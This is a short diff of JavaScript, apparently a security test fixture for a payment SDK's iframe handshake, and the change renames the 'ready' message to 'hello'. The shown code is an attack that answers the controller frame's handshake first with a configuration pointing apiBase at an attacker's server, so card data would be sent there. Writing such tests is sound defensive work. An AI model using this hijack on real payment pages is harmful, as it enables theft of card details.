@@ -1,10 +1,10 @@
 // Attack: a capture-phase listener registered before the SDK answers the controller frame's
-// `ready` first, with a configuration whose apiBase is the attacker's own server, so the card
+// `hello` first, with a configuration whose apiBase is the attacker's own server, so the card
 // would be posted there. Then it asks for a token on that port.
 (function () {
   window.addEventListener('message', function (e) {
     var d = e.data;
-    if (!d || d.payjp !== 'ready' || !e.source) return;
+    if (!d || d.payjp !== 'hello' || !e.source) return;
     var iframe = document.querySelector('iframe.payjp-controller');
     if (!iframe || iframe.contentWindow !== e.source) return;
     var group = null;
